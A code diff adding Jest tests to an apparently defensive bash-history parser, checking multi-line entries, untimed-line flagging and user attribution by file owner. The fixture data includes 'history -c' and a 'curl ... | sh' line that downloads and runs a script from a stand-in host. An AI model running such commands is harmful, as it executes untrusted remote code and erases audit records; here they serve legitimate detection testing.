@@ -73,6 +73,37 @@ describe('history helpers', () => {
     const out = [...p.push(rec('#1700000000', 0, '/home/alice/.bash_history')), ...p.push(rec('id', 12, '/home/alice/.bash_history')), ...p.flush(0, true)];
     expect(getField(events(out)[0], 'user.name')).toBe('carol');
   });
+  it('makes a bash line without its own timestamp a record of its own, flagged, and keeps an open multi-line entry whole', () => {
+    const { bashParserUnit } = jest.requireActual<typeof import('./history')>('./history');
+    const p = bashParserUnit({ user: 'carol' }).create(testContext());
+    const lines = ['#1700000000', 'for i in 1 2; do', '  echo "$i"', 'done', '#1700000009', 'history -c', 'curl -s http://x/p.sh | sh'];
+    let off = 0;
+    const out: ParseOutput[] = [];
+    for (const l of lines) {
+      out.push(...p.push(rec(l, off, '/home/alice/.bash_history')));
+      off += l.length + 1;
+    }
+    out.push(...p.flush(0, true));
+    const docs = events(out);
+    expect(docs.map((d) => getField(d, 'process.command_line'))).toEqual(['for i in 1 2; do\n  echo "$i"\ndone', 'history -c', 'curl -s http://x/p.sh | sh']);
+    expect(docs.map((d) => getField(d, 'auditkit.history.untimed'))).toEqual([undefined, undefined, true]);
+    expect(getField(docs[2], '@timestamp')).toBe(getField(docs[1], '@timestamp'));
+    expect(getField(docs[2], 'tags')).toEqual(['auditkit_time_inferred']);
+    expect(docs.map((d) => getField(d, 'auditkit.history.user_from'))).toEqual(['option', 'option', 'option']);
+  });
+  it('takes the user of a history file from its owner before its path, and says so', () => {
+    const { bashParserUnit } = jest.requireActual<typeof import('./history')>('./history');
+    const f = join(tmpdir(), `auditkit-hist-owner-${process.pid}`);
+    writeFileSync(f, '#1700000000\nid\n');
+    try {
+      const p = bashParserUnit().create(testContext());
+      const out = [...p.push(rec('#1700000000', 0, f)), ...p.push(rec('id', 12, f)), ...p.flush(0, true)];
+      expect(getField(events(out)[0], 'user.name')).toBe(userInfo().username);
+      expect(getField(events(out)[0], 'auditkit.history.user_from')).toBe('owner');
+    } finally {
+      rmSync(f);
+    }
+  });
   it('holds a bash entry until the next timestamp and reports its offset as pending', () => {
     const p = parserByKind('bash')!.create(testContext());
     expect(p.push(rec('#1700000000', 0))).toEqual([]);
